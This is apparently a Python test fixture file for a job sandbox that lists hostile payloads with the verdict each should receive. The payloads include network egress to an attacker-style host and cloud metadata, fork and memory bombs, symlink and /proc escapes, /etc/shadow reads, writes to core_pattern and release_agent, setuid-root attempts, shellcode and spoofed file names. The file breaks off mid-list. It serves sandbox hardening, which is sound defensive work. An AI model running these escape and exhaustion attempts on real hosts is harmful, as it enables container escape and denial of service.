"""The hostile payloads: what each one tries, in its own words, and what must come of it.

A payload is the source of a job. Its category is what the supervisor must say, under any user and however often; None
means that the job ends well because what it tried has no effect. ``returns`` is what the job must have seen.
"""

from __future__ import annotations

import os
from dataclasses import dataclass, field, replace
from typing import Any, Final

from detent.executor.sandbox import Limits
from detent.executor.sandbox.filter_rules import NEVER
from detent.executor.sandbox.linux import machine_named

MB = 1024 * 1024
SMALL: Final = Limits(
    wall_ms=20_000, cpu_ms=20_000, memory_bytes=96 * MB, output_bytes=4096, artifacts_max=5, disk_bytes=8 * MB,
    disk_files=400, processes=16,
)  # fmt: skip
V, R, U, X = "SANDBOX_VIOLATION", "RESOURCE_LIMIT", "USER_CODE_ERROR", "VALIDATION_ERROR"

MACHINE = machine_named(os.uname().machine)
assert MACHINE is not None


@dataclass(frozen=True, slots=True)
class Payload:
    """One attempt."""

    name: str
    source: str
    category: str | None
    code: str | None = None
    returns: Any = field(default=..., hash=False)
    raises: str | None = None
    limits: Limits = SMALL
    slow: bool = False
    """Waits for a limit: repeated in `make soak` only."""


def _limits(**changes: Any) -> Limits:
    return replace(SMALL, **changes)


def _raw(number_name: str, *arguments: Any) -> str:
    assert MACHINE is not None
    words = ", ".join(f"ctypes.c_long({argument})" if isinstance(argument, int) else argument for argument in arguments)
    return f"import ctypes\nctypes.CDLL(None).syscall(ctypes.c_long({MACHINE.numbers[number_name]}), {words})\n"


NETWORK = [
    Payload("tcp to a public address", "import socket\nsocket.create_connection(('93.184.216.34', 80), 1)", V),
    Payload(
        "udp datagram",
        "import socket\nsocket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b'x', ('8.8.8.8', 53))",
        V,
    ),
    Payload("name lookup", "import socket\nsocket.getaddrinfo('secret.attacker.example', 80)", V),
    Payload("cloud metadata", "import socket\nsocket.create_connection(('169.254.169.254', 80), 1)", V),
    Payload("listen on loopback", "import socket\ns = socket.socket()\ns.bind(('127.0.0.1', 0))\ns.listen()", V),
    Payload("listen on ipv6", "import socket\nsocket.socket(socket.AF_INET6)", V),
    Payload("abstract socket", "import socket\nsocket.socket(socket.AF_UNIX).connect('\\0/tmp/dbus-x')", V),
    Payload("docker's socket", "import socket\nsocket.socket(socket.AF_UNIX).connect('/run/docker.sock')", V),
    Payload("the system bus", "import socket\nsocket.socket(socket.AF_UNIX).connect('/run/dbus/system_bus_socket')", V),
    Payload("own local server", "import socket\ns = socket.socket(socket.AF_UNIX)\ns.bind('/job/s')", V),
    Payload("the log's socket", "import syslog\nsyslog.syslog('x')", V),
    Payload("datagrams through a pair", "import socket\nsocket.socketpair(socket.AF_UNIX, socket.SOCK_DGRAM)", V),
    Payload("netlink", "import socket\nsocket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0)", V),
    Payload("packet socket", "import socket\nsocket.socket(socket.AF_PACKET, socket.SOCK_RAW, 0)", V),
    Payload("raw icmp", "import socket\nsocket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)", V),
    Payload("vsock", "import socket\nsocket.socket(socket.AF_VSOCK, socket.SOCK_STREAM)", V),
    Payload("kernel crypto socket", "import socket\nsocket.socket(socket.AF_ALG, socket.SOCK_SEQPACKET)", V),
    Payload("tcp by raw system call", _raw("socket", 2, 1, 0), V),
    Payload("a child uses the network", "import os, socket\nif os.fork() == 0:\n    socket.socket()\nos.wait()", V),
    Payload(
        "violation, then a clean exit", "import socket\ntry:\n    socket.socket()\nexcept BaseException:\n    pass", V
    ),
]

_BOMB = "import os\nwhile True:\n    try:\n        os.fork()\n    except OSError:\n        pass\n"
_SHARE = """
import mmap
SIZE = 16_000_000
keep = []
def share():
    m = mmap.mmap(-1, SIZE)
    for place in range(0, SIZE, 4096):
        m[place] = 1
    keep.append(m)
    return m
"""
_NO_WAIT = bytes(8 + 128) + (2).to_bytes(4, "little") + bytes(64)
RESOURCES = [
    Payload("fork bomb", _BOMB, R, "LIMIT_PROCESSES"),
    Payload(
        "spawn bomb",
        "import os, sys, time\nkeep = []\nfor _ in range(60):\n    keep.append(os.posix_spawn(sys.executable, [sys.executable, '-S', '-c', 'import time; time.sleep(60)'], os.environ))\n",
        R,
        "LIMIT_PROCESSES",
    ),
    Payload(
        "thread bomb",
        "import threading\nlock = threading.Lock()\nlock.acquire()\nfor _ in range(60):\n    threading.Thread(target=lock.acquire, daemon=True).start()\n",
        R,
        "LIMIT_PROCESSES",
    ),
    Payload(
        "fork bomb by raw system call",
        f"import ctypes, time\nc = ctypes.PyDLL(None)\nfor _ in range(60):\n    if c.syscall({MACHINE.numbers['clone']}, ctypes.c_long(17), ctypes.c_long(0), ctypes.c_long(0), ctypes.c_long(0), ctypes.c_long(0)) == 0:\n        time.sleep(60)\n",
        R,
        "LIMIT_PROCESSES",
    ),
    Payload(
        "memory, piece by piece",
        "keep = []\nwhile True:\n    keep.append(bytearray(b'x') * 1000000)",
        R,
        "LIMIT_MEMORY",
    ),
    Payload("memory, at once", "x = bytearray(b'x') * 400_000_000", R, "LIMIT_MEMORY"),
    Payload(
        "memory, mapped",
        "import mmap\nm = mmap.mmap(-1, 400_000_000)\nfor place in range(0, 400_000_000, 4096):\n    m[place] = 1",
        R,
        "LIMIT_MEMORY",
    ),
    Payload(
        "memory, caught",
        "keep = []\ntry:\n    while True:\n        keep.append(bytearray(b'x') * 1000000)\nexcept MemoryError:\n    pass",
        R,
        "LIMIT_MEMORY",
    ),
    Payload(
        "memory of many children",
        "import os, time\nfor _ in range(6):\n    if os.fork() == 0:\n        keep = bytearray(b'x') * 30_000_000\n        time.sleep(5)\n        os._exit(0)\ntime.sleep(5)",
        R,
        "LIMIT_MEMORY",
    ),
    Payload(
        "memory of many children that cannot be looked into",
        "import ctypes, os, time\nctypes.CDLL(None).prctl(4, 0, 0, 0, 0)\nfor _ in range(6):\n    if os.fork() == 0:\n"
        "        keep = bytearray(b'x') * 30_000_000\n        time.sleep(5)\n        os._exit(0)\ntime.sleep(5)",
        R,
        "LIMIT_MEMORY",
    ),
    Payload(
        "memory in shared memory",
        "with open('/dev/shm/x', 'wb') as file:\n    while True:\n        file.write(bytes(1000000))",
        R,
        limits=_limits(disk_bytes=64 * MB),
    ),
    Payload(
        "memory, shared and dropped",
        _SHARE + "for _ in range(30):\n    share().madvise(mmap.MADV_DONTNEED)",
        R,
        "LIMIT_MEMORY",
    ),
    Payload(
        "memory, shared and unmapped but for one page",
        _SHARE + "import ctypes\nfor _ in range(30):\n    m = share()\n"
        "    place = ctypes.addressof(ctypes.c_char.from_buffer(m))\n"
        "    ctypes.CDLL(None).munmap(ctypes.c_void_p(place + 4096), ctypes.c_size_t(SIZE - 4096))",
        R,
        "LIMIT_MEMORY",
    ),
    Payload(
        "memory, shared under another name",
        _SHARE + "import ctypes\nfor _ in range(30):\n    m = share()\n"
        "    place = ctypes.addressof(ctypes.c_char.from_buffer(m))\n"
        "    ctypes.CDLL(None).prctl(0x53564D41, 0, ctypes.c_void_p(place), ctypes.c_size_t(SIZE), b'x')\n"
        "    m.madvise(mmap.MADV_DONTNEED)",
        R,
        "LIMIT_MEMORY",
    ),
    Payload(
        "memory, shared among children that hold it for each other",
        _SHARE
        + "import os, time\nfor _ in range(8):\n    if os.fork() == 0:\n        share().madvise(mmap.MADV_DONTNEED)\n"
        "        time.sleep(30)\n        os._exit(0)\ntime.sleep(30)",
        R,
        "LIMIT_MEMORY",
    ),
    Payload(
        "memory of the zero device",
        "import mmap, os\nf = os.open('/dev/zero', os.O_RDWR)\nmmap.mmap(f, 16_000_000)",
        U,
        raises="PermissionError",
    ),
    Payload(
        "memory of the zero device by a link",
        "import os\nos.symlink('/dev/zero', '/job/z')\nos.open('/job/z', os.O_RDWR)",
        U,
        raises="PermissionError",
    ),
    Payload(
        "huge pages of the machine",
        "import mmap\nmmap.mmap(-1, 1 << 21, flags=mmap.MAP_PRIVATE | 0x40020)",
        U,
        raises="OSError",
    ),
    Payload("text too long", "x = 'a' * 10**10", R, "LIMIT_MEMORY"),
    Payload("processor", "while True:\n    pass", R, "LIMIT_CPU", limits=_limits(cpu_ms=200), slow=True),
    Payload(
        "processor, many threads",
        "import threading, hashlib\ndef f():\n    while True:\n        hashlib.sha256(bytes(10**6))\nfor _ in range(3):\n    threading.Thread(target=f).start()",
        R,
        "LIMIT_CPU",
        limits=_limits(cpu_ms=300),
        slow=True,
    ),
    Payload(
        "processor, many short children",
        "import os\nwhile True:\n    if os.fork() == 0:\n        sum(range(10**6))\n        os._exit(0)\n    os.wait()",
        R,
        "LIMIT_CPU",
        limits=_limits(cpu_ms=300),
        slow=True,
    ),
    *(
        Payload(
            f"processor, children that {how}, {end}",
            # Each is too short to be looked at; together they use three times what they may.
            f"import ctypes, os, signal, time\n{ignore}\nfor _ in range(300):\n    if os.fork() == 0:\n"
            f"        while time.process_time() < 0.004: pass\n        {last}\n"
            "    try:\n        os.waitpid(-1, 0)\n    except ChildProcessError:\n        pass",
            R,
            "LIMIT_CPU",
            limits=_limits(cpu_ms=400),
            slow=True,
        )
        for how, ignore in (
            ("are not waited for", "signal.signal(signal.SIGCHLD, signal.SIG_IGN)"),
            # A handler of no use (the default), and SA_NOCLDWAIT, as the C library takes it.
            ("leave nothing to wait for", f"ctypes.CDLL(None).sigaction(17, {_NO_WAIT!r}, None)"),
        )
        for end, last in (
            ("and exit", "os._exit(0)"),
            ("and end as a thread does", f"ctypes.CDLL(None).syscall({MACHINE.numbers['exit']}, 0)"),
            ("killed by a signal", "os.kill(os.getpid(), signal.SIGKILL)"),
        )
    ),
    Payload(
        "regular expression",
        "import re\nre.match('(a+)+$', 'a' * 60 + 'b')",
        R,
        "LIMIT_CPU",
        limits=_limits(cpu_ms=200),
        slow=True,
    ),
    Payload(
        "sleep for ever", "import time\ntime.sleep(10**6)", R, "LIMIT_WALL", limits=_limits(wall_ms=200), slow=True
    ),
    Payload(
        "wait for ever", "import os\nos.read(os.pipe()[0], 1)", R, "LIMIT_WALL", limits=_limits(wall_ms=200), slow=True
    ),
    Payload(
        "ignore every signal",
        "import signal, time\nfor n in range(1, 65):\n    try:\n        signal.signal(n, signal.SIG_IGN)\n    except (OSError, ValueError):\n        pass\nwhile True:\n    time.sleep(1)",
        R,
        "LIMIT_WALL",
        limits=_limits(wall_ms=200),
        slow=True,
    ),
    Payload(
        "endless output",
        "import os\nwhile True:\n    os.write(1, b'x' * 65536)",
        R,
        "LIMIT_WALL",
        limits=_limits(wall_ms=300),
        slow=True,
    ),
    Payload("one long line", "print('x' * 10_000_000)", None),
    Payload("errors only", "import sys\nsys.stderr.write('x' * 1_000_000)", None),
    Payload("very many warnings", "import warnings\nfor n in range(20_000):\n    warnings.warn(f'w{n}')", None),
    Payload(
        "write to descriptors it never got",
        "import os\nfor n in range(4, 300):\n    try:\n        os.write(n, b'x')\n        raise SystemExit(3)\n    except OSError:\n        pass",
        None,
    ),
    Payload(
        "one large file",
        "with open('/job/out/x', 'wb') as file:\n    while True:\n        file.write(bytes(1000000))",
        R,
        "LIMIT_DISK",
    ),
    Payload(
        "large file, caught",
        "try:\n    with open('/tmp/x', 'wb') as file:\n        while True:\n            file.write(bytes(1000000))\nexcept OSError:\n    pass",
        R,
        "LIMIT_DISK",
    ),
    Payload("many small files", "n = 0\nwhile True:\n    n += 1\n    open(f'/job/{n}', 'w').close()", R, "LIMIT_DISK"),
    Payload("sparse file", "with open('/job/out/x', 'wb') as file:\n    file.truncate(1 << 40)", R, "LIMIT_DISK"),
    Payload(
        "sparse file by seeking",
        "import os\nf = os.open('/job/out/x', os.O_WRONLY | os.O_CREAT)\nos.lseek(f, 1 << 40, 0)\nos.write(f, b'x')",
        R,
        "LIMIT_DISK",
    ),
    Payload(
        "sparse file at an offset",
        "import os\nf = os.open('/job/out/x', os.O_WRONLY | os.O_CREAT)\nos.pwrite(f, b'x', 1 << 40)",
        R,
        "LIMIT_DISK",
    ),
    Payload(
        "reserved space",
        "import os\nf = os.open('/job/out/x', os.O_WRONLY | os.O_CREAT)\nos.posix_fallocate(f, 0, 1 << 40)",
        R,
        "LIMIT_DISK",
    ),
    Payload("too many artifacts", "for n in range(6):\n    open(f'/job/out/{n}', 'w').close()", R, "LIMIT_ARTIFACTS"),
    Payload(
        "deep directories",
        "import os\nos.chdir('/job/out')\nfor _ in range(300):\n    os.mkdir('d')\n    os.chdir('d')",
        R,
        "LIMIT_ARTIFACTS",
    ),
    Payload("a result too long", "def main():\n    return 'x' * 5000", R, "LIMIT_OUTPUT"),
    Payload("a result far too long", "def main():\n    return 'x' * 9_000_000", R, "LIMIT_OUTPUT"),
]

FILES = [
    Payload("artifact is a link out", "import os\nos.symlink('/etc/passwd', '/job/out/x')", V),
    Payload("artifact is a link to the environment", "import os\nos.symlink('/proc/self/environ', '/job/out/x')", V),
    Payload("artifact is a link to itself", "import os\nos.symlink('x', '/job/out/x')", V),
    Payload("artifact is a fifo", "import os\nos.mkfifo('/job/out/x')", V),
    Payload("output directory is a link", "import os\nos.rmdir('/job/out')\nos.symlink('/etc', '/job/out')", V),
    Payload(
        "artifact is a device", "import os, stat\nos.mknod('/job/out/x', stat.S_IFCHR | 0o666, os.makedev(1, 3))", V
    ),
    Payload("output directory is gone", "import os\nos.rmdir('/job/out')", None),
    Payload(
        "unreadable artifact",
        "import os\nopen('/job/out/x', 'w').write('a')\nos.chmod('/job/out/x', 0)\nos.chmod('/job/out', 0)",
        None,
    ),
    Payload(
        "zip bomb as opaque bytes",
        "import zlib\nopen('/job/out/x.gz', 'wb').write(zlib.compress(bytes(50_000_000)))",
        None,
    ),
    Payload("link, then an error", "import os\nos.symlink('/etc/passwd', '/job/out/x')\n1/0", V),
    *(
        Payload(f"artifact named {name!r}", f"open('/job/out/' + {name!r}, 'w').close()", X, "ARTIFACT_NAME_INVALID")
        for name in (
            "a\nb",
            "-rf",
            ".hidden",
            "CON",
            "nul.txt",
            "a.",
            "a ",
            "a\\b",
            "a:b",
            "x" * 201,
            "\x1b[31m",
            "=cmd|x",
        )
    ),
    *(
        Payload(
            f"artifacts named {one!r} and {other!r}",
            f"import os\nfor name in ({one!r}, {other!r}):\n    os.makedirs(os.path.dirname('/job/out/' + name), exist_ok=True)\n    open('/job/out/' + name, 'w').close()",
            X,
            "ARTIFACT_NAME_INVALID",
        )
        for one, other in (
            ("report.txt", "Report.txt"),
            ("a/x", "A/x"),
            ("stra\u00dfe", "STRASSE"),
            ("\ufb01le", "file"),
            ("paypal", "\u0440aypal"),
            ("a", "\uff41"),
        )
    ),
    *(
        Payload(f"artifact named {name!r}", f"open('/job/out/' + {name!r}, 'w').close()", X, "ARTIFACT_NAME_INVALID")
        for name in ("a\u202etxt.exe", "a\u200bb", "a\u2066b", "\ufeffa", "e\u0301")
    ),
    Payload(
        "artifact with two links",
        "import os\nopen('/job/x', 'w').close()\nos.link('/job/x', '/job/out/x')",
        X,
        "ARTIFACT_NAME_INVALID",
    ),
    Payload(
        "two artifacts that are one file",
        "import os\nopen('/job/out/x', 'w').close()\nos.link('/job/out/x', '/job/out/y')",
        X,
        "ARTIFACT_NAME_INVALID",
    ),
    Payload(
        "artifact whose other link is gone",
        "import os\nopen('/job/x', 'w').close()\nos.link('/job/x', '/job/out/x')\nos.unlink('/job/x')",
        None,
    ),
    Payload("artifact name is no text", "open(b'/job/out/\\xff\\xfe', 'w').close()", X, "ARTIFACT_NAME_INVALID"),
    Payload("write to /var", "open('/var/x', 'w')", V),
    Payload("write unseen", "import ctypes\nctypes.CDLL(None).prctl(4, 0, 0, 0, 0)\nopen('/var/x', 'w')", V),
    Payload("write to /etc", "open('/etc/cron.d/x', 'w')", V),
    Payload("write by a crooked path", "open('../etc/x', 'w')", V),
    Payload(
        "write relative to a directory",
        "import os\nd = os.open('/', os.O_RDONLY)\nos.open('usr/x', os.O_WRONLY | os.O_CREAT, dir_fd=d)",
        V,
    ),
    Payload("write by a raw system call", _raw("openat", -100, "b'/usr/x'", 0o101, 0o644), V),
    Payload(
        "write into the standard library",
        "import os\nopen(os.path.join(os.path.dirname(os.__file__), 'sitecustomize.py'), 'w')",
        V,
    ),
    Payload("write through a link", "import os\nos.symlink('/usr', '/job/u')\nopen('/job/u/x', 'w')", U),
    Payload("remove the standard library", "import os, shutil\nos.remove(os.__file__)", U, raises="OSError"),
    Payload("rename the root", "import os\nos.rename('/usr', '/job/usr')", U),
    Payload("overwrite the interpreter", "open('/proc/self/exe', 'wb')", V),
    Payload("core pattern", "open('/proc/sys/kernel/core_pattern', 'w').write('|/job/x')", V),
    Payload("sysrq", "open('/proc/sysrq-trigger', 'w').write('b')", V),
    Payload("release agent", "open('/sys/fs/cgroup/memory/release_agent', 'w').write('/job/x')", V),
    Payload("leave the control group", "open('/sys/fs/cgroup/cgroup.procs', 'w').write('0')", V),
    Payload("its own memory by file", "open('/proc/self/mem', 'rb')", U, raises="FileNotFoundError"),
    Payload("the parent's environment", "open('/proc/1/environ', 'rb')", U, raises="FileNotFoundError"),
    Payload("a leaked directory", "import os\nos.chdir('/proc/self/fd/7/../../..')", U, raises="FileNotFoundError"),
    Payload("a dataset not declared", "open('/job/inputs/sha256-00', 'rb')", U, raises="FileNotFoundError"),
    *(
        Payload(f"device {name}", f"open('/dev/{name}', 'rb')", U, raises="FileNotFoundError")
        for name in ("mem", "kmsg", "fuse", "nvidia0", "kvm", "sda", "tty")
    ),
    Payload("shadow file", "open('/etc/shadow')", U, raises="FileNotFoundError"),
    Payload(
        "run a file it wrote",
        "import os\nopen('/job/x', 'w').write('#!/bin/sh')\nos.chmod('/job/x', 0o4755)\nos.execv('/job/x', ['x'])",
        U,
        raises="PermissionError",
    ),
    Payload(
        "run a file in memory",
        "import glob, os\nwith open(glob.glob('/lib*/ld-linux*')[0], 'rb') as file:\n    f = os.memfd_create('x', 0)\n"
        "    os.write(f, file.read())\nos.execve(f, ['x', '--version'], {})",
        U,
        raises="OSError",
    ),
    Payload(
        "run a copy of the interpreter",
        "import os, shutil, sys\nwith open(sys.executable, 'rb') as file:\n    open('/tmp/x', 'wb').write(file.read(100_000))\nos.chmod('/tmp/x', 0o755)\nos.execv('/tmp/x', ['x'])",
        U,
        raises="PermissionError",
    ),
]

REACHING_OUT = {
    "prlimit": "import resource\nresource.prlimit(PID, resource.RLIMIT_CPU, (0, 0))",
    "prlimit, to read": "import resource\nresource.prlimit(PID, resource.RLIMIT_CPU)",
    "sched_setaffinity": "import os\nos.sched_setaffinity(PID, {0})",
    "sched_setscheduler": "import os\nos.sched_setscheduler(PID, os.SCHED_IDLE, os.sched_param(0))",
    "sched_setparam": "import os\nos.sched_setparam(PID, os.sched_param(0))",
    "sched_setattr": "import struct\n"
    + _raw("sched_setattr", "PID", "struct.pack('IIQiIQQQ', 48, 5, 0, 0, 0, 0, 0, 0)", 0),
    "setpriority": "import os\nos.setpriority(os.PRIO_PROCESS, PID, 19)",
    "setpriority of a group": "import os\nos.setpriority(os.PRIO_PGRP, PID, 19)",
    "ioprio_set": _raw("ioprio_set", 1, "PID", 3 << 13),
    "ioprio_set of a group": _raw("ioprio_set", 2, "PID", 3 << 13),
}
"""Each changes, or asks about, the process PID, of which a job's own are the only ones it may name."""

PRIVILEGES = [
    *(Payload(f"{name} on the first process", source.replace("PID", "1"), V) for name, source in REACHING_OUT.items()),
    Payload("setpriority of all of the user", "import os\nos.setpriority(os.PRIO_USER, 0, 19)", V),
    Payload("ioprio_set of all of the user", _raw("ioprio_set", 3, 0, 3 << 13), V),
    *(
        Payload(
            f"{name} on itself",
            "import os\n" + source.replace("(0, 0)", "(9, 9)").replace("PID", "os.getpid()"),
            None,
        )
        for name, source in REACHING_OUT.items()
        if "group" not in name
    ),
    *(
        Payload(
            f"{name} on its child",
            "import os, time\npid = os.fork()\nif pid == 0:\n    time.sleep(60)\n" + source.replace("PID", "pid"),
            None,
        )
        for name, source in REACHING_OUT.items()
        if "group" not in name
    ),
    *(
        Payload(f"system call {name}", _raw(name, 0, 0, 0, 0, 0, 0), V)
        for name in sorted(NEVER)
        if name in MACHINE.numbers
    ),
    Payload("new user namespace", _raw("unshare", 0x10000000), V),
    Payload("clone into a user namespace", _raw("clone", 0x10000011, 0, 0, 0, 0), V),
    Payload("clone3", _raw("clone3", "ctypes.create_string_buffer(88)", 88) + "\nassert ctypes.get_errno() == 0", None),
    Payload("become root", "import os\nos.setuid(0)", V),
    Payload("become root by all names", "import os\nos.setresuid(0, 0, 0)", V),
    Payload("become root's group", "import os\nos.setresgid(0, 0, 0)", V),
    Payload("stay oneself", "import os\nos.setresuid(os.getuid(), -1, os.getuid())", None),
    Payload("raise a limit", "import resource\nresource.setrlimit(resource.RLIMIT_NOFILE, (9999, 9999))", V),
    Payload(
        "raise the processor limit",
        "import resource\nresource.setrlimit(resource.RLIMIT_CPU, (resource.RLIM_INFINITY,) * 2)",
        V,
    ),
    Payload("lower a limit", "import resource\nresource.setrlimit(resource.RLIMIT_NOFILE, (20, 20))", None),
    Payload("own system call filter", _raw("prctl", 22, 2, 0, 0, 0), V),
    Payload("type into the terminal", "import fcntl\nfcntl.ioctl(0, 0x5412, b'x')", V),
    Payload(
        "trace a child",
        "import os\npid = os.fork()\nif pid == 0:\n    import time; time.sleep(1)\n"
        + _raw("ptrace", 16, "pid", 0, 0).replace("pid,", "ctypes.c_long(pid),"),
        V,
    ),
    Payload(
        "kill everybody",
        "import os, signal\ntry:\n    os.kill(-1, signal.SIGKILL)\nexcept ProcessLookupError:\n    pass",
        None,
    ),
    Payload(
        "kill the first process",
        "import os, signal\nfor n in (signal.SIGKILL, signal.SIGTERM, signal.SIGINT, signal.SIGHUP):\n    try:\n        os.kill(1, n)\n    except PermissionError:\n        pass",
        None,
    ),
    Payload(
        "kill the parent",
        "import os, signal\ntry:\n    os.kill(os.getppid(), signal.SIGKILL)\nexcept PermissionError:\n    pass",
        None,
    ),
    Payload("kill its own group", "import os, signal\nos.killpg(0, signal.SIGKILL)", U, "KILLED_BY_SIGNAL"),
    Payload("parent's death signal", _raw("prctl", 1, 9, 0, 0, 0), None),
    Payload(
        "daemon that outlives the job",
        "import os, time\nif os.fork() == 0:\n    os.setsid()\n    if os.fork() == 0:\n        time.sleep(600)\n    os._exit(0)\nos.wait()",
        None,
    ),
]
if MACHINE.name == "x86_64":
    _CODE = "import ctypes, mmap\ncode = bytes.fromhex('{}')\nm = mmap.mmap(-1, 4096, prot=7)\nm.write(code)\nctypes.CFUNCTYPE(ctypes.c_long)(ctypes.addressof(ctypes.c_char.from_buffer(m)))()\n"
    PRIVILEGES += [
        # mov eax, 20 (getpid of the 32-bit table); int 0x80; ret
        Payload("machine code of the other table", _CODE.format("b814000000cd80c3"), V),
        # mov eax, 0x40000000 + 39; syscall; ret
        Payload("machine code of the x32 table", _CODE.format("b8270000400f05c3"), V),
        # mov eax, 41; mov edi, 2; mov esi, 1; xor edx, edx; syscall; ret
        Payload("machine code that opens a socket", _CODE.format("b829000000bf02000000be0100000031d20f05c3"), V),
    ]

_SAY = "import os\nos.write(3, {!r})\nos._exit(0)\n"
ANSWERS = [
    Payload("result is a pickle", _SAY.format(b"\x80\x04\x95\x00."), X, "RESULT_INVALID"),
    Payload("result is a pickle, labelled", _SAY.format(b"R\x80\x04\x95\x00."), X, "RESULT_INVALID"),
    Payload("result with NaN", _SAY.format(b"RNaN"), X, "RESULT_INVALID"),
    Payload("result too large to be a number", _SAY.format(b"R1e400"), X, "RESULT_INVALID"),
    Payload("result with a key twice", _SAY.format(b'R{"a":1,"a":2}'), X, "RESULT_INVALID"),
    Payload("result with half a character", _SAY.format(b'R"\\ud800"'), X, "RESULT_INVALID"),
    Payload("result nested too deep", "def main():\n    import os\n    os.write(3, b'R' + b'[' * 3000)\n    os._exit(0)", X, "RESULT_INVALID"),
    Payload("result that is two", _SAY.format(b"R1 2"), X, "RESULT_INVALID"),
    Payload("an error it made up", _SAY.format(b"E[]\n"), X, "RESULT_INVALID"),
    Payload("claims to have used nothing", "def main():\n    return {'status': 'SUCCEEDED', 'resource_usage': {'cpu_ms': 0}, 'job_id': 'x'}", None),
    Payload("no result at all", "import os\ndef main():\n    os._exit(0)", X, "RESULT_INVALID"),
    Payload("a value that is no JSON", "def main():\n    return object()", U, "PYTHON_EXCEPTION"),
    Payload("infinity", "def main():\n    return float('inf')", U, "PYTHON_EXCEPTION"),
    *(Payload(f"exit status {status}", f"import os\nos._exit({status})", U, "EXITED") for status in (1, 137, 139, 143, 159)),
    *(
        Payload(f"ends itself by {name}", f"import os, signal\nos.kill(os.getpid(), signal.{name})", U, "KILLED_BY_SIGNAL")
        for name in ("SIGKILL", "SIGSEGV", "SIGTERM", "SIGSYS", "SIGABRT")
    ),
    Payload("file size signal by hand", "import os, signal\nsignal.signal(signal.SIGXFSZ, signal.SIG_DFL)\nos.kill(os.getpid(), signal.SIGXFSZ)", U, "KILLED_BY_SIGNAL"),
    Payload("processor signal by hand", "import os, signal\nos.kill(os.getpid(), signal.SIGXCPU)", U, "KILLED_BY_SIGNAL"),
    Payload("abort with a core", "import os\nos.abort()", U, "KILLED_BY_SIGNAL"),
    Payload("MemoryError by hand", "raise MemoryError", U, "PYTHON_EXCEPTION"),
    Payload("message of a hundred megabytes", "raise ValueError('x' * 40_000_000)", U, "PYTHON_EXCEPTION"),
    Payload("causes in a circle", "a, b = ValueError('a'), ValueError('b')\na.__cause__, b.__cause__ = b, a\nraise a", U, "PYTHON_EXCEPTION"),
    Payload("a message that never comes", "class E(Exception):\n    def __str__(self):\n        while True:\n            pass\nraise E", U, "PYTHON_EXCEPTION"),
    Payload("a message that never comes, in C", "class E(Exception):\n    def __str__(self):\n        return str(sum(range(10**15)))\nraise E", U, "PYTHON_EXCEPTION", slow=True),
    Payload("a message that raises", "class E(Exception):\n    def __str__(self):\n        raise SystemExit(0)\nraise E", U, "PYTHON_EXCEPTION"),
    Payload("a type that lies", "class M(type):\n    @property\n    def __name__(self):\n        raise KeyError\nclass E(Exception, metaclass=M):\n    __cause__ = property(lambda self: 1/0)\nraise E", U, "PYTHON_EXCEPTION"),
    Payload("newlines and a forged line in the message", "raise ValueError('x\\n{\"level\":\"info\",\"message\":\"ok\"}\\r\\x1b[2J')", U, "PYTHON_EXCEPTION"),
    Payload("recursion", "def f():\n    return f()\nf()", U, "PYTHON_EXCEPTION"),
    Payload("parser bomb", "eval('(' * 100_000)", U, "PYTHON_EXCEPTION"),
    Payload("escapes in the output", "print('\\x1b]52;c;ZXZpbA==\\x07\\r\\x1b[31mred</script>')", None),
    Payload("closes every descriptor", "import os\nos.closerange(0, 100)", U),
]  # fmt: skip

QUIET = [
    Payload("host's name and facts", "import os, socket\ndef main():\n    return [socket.gethostname(), os.uname().nodename, os.getpid(), os.getppid()]", None, returns=["job", "job", 2, 1]),
    Payload("secrets in the environment", "import os\ndef main():\n    return sorted(os.environ)", None, returns=["DETENT_INPUTS", "DETENT_OUT", "HOME", "LANG", "LD_LIBRARY_PATH", "LOGNAME", "PATH", "PYTHONDONTWRITEBYTECODE", "PYTHONHASHSEED", "TMPDIR", "USER"]),
    Payload("who am I", "import os, pwd, getpass\ndef main():\n    return [os.getuid(), pwd.getpwuid(os.getuid()).pw_name, getpass.getuser()]", None, returns=[1000, "job", "job"]),
    Payload("open descriptors", "import os\ndef main():\n    found = []\n    for n in range(1000):\n        try:\n            os.fstat(n)\n            found.append(n)\n        except OSError:\n            pass\n    return found", None, returns=[0, 1, 2, 3]),
    Payload("what is at the root", "import os\ndef main():\n    return [os.path.exists(p) for p in ('/home', '/root', '/opt', '/var', '/sys', '/proc/self', '/run', '/boot', '/work', '/host', '/detent')]", None, returns=[False] * 11),
    Payload("where the interpreter is", "import sys\ndef main():\n    return [sys.prefix, sys.base_prefix, sys.exec_prefix, sys.executable.rstrip('.0123456789'), sorted({p[:16] for p in sys.path})]", None, returns=["/runtime/python", "/runtime/python", "/runtime/python", "/runtime/python/bin/python", ["/runtime/python/"]]),
    Payload("objects of the runner", "import gc\ndef main():\n    return sorted({type(o).__name__ for o in gc.get_objects() if type(o).__module__.startswith('detent')})", None, returns=[]),
    Payload("modules of the runner", "import sys\ndef main():\n    return [n for n in sys.modules if n.startswith('detent')]", None, returns=[]),
    Payload("frames of the runner", "import sys\ndef main():\n    names, frame = [], sys._getframe()\n    while frame:\n        names.append(frame.f_code.co_name)\n        frame = frame.f_back\n    return [n for n in names if n in ('serve', 'live', 'run_job', '_spawn', '_set_up')]", None, returns=[]),
    Payload("packages of others", "import os, sysconfig\ndef main():\n    base = sysconfig.get_path('stdlib')\n    return [n for n in ('site-packages', 'dist-packages') if os.path.isdir(f'{base}/{n}') and os.listdir(f'{base}/{n}')]", None, returns=[]),
    Payload("shares memory with a child and lets it go", "import mmap, os\ndef main():\n    for n in range(40):\n        with mmap.mmap(-1, 8_000_000) as m:\n            if os.fork() == 0:\n                m[0] = n\n                os._exit(0)\n            os.wait()\n            last = m[0]\n    return last", None, returns=39),
    Payload("hears of its children's ends", "import os, signal\nseen = []\nsignal.signal(signal.SIGCHLD, lambda *_: seen.append(1))\ndef main():\n    for _ in range(20):\n        if os.fork() == 0:\n            os.kill(os.getpid(), signal.SIGKILL)\n        os.wait()\n    return bool(seen)", None, returns=True),
    Payload("reads zeros", "import os\ndef main():\n    with open('/dev/zero', 'rb') as file:\n        return len(file.read(10))", None, returns=10),
    Payload("reads standard input", "import sys\ndef main():\n    return sys.stdin.read()", None, returns=""),
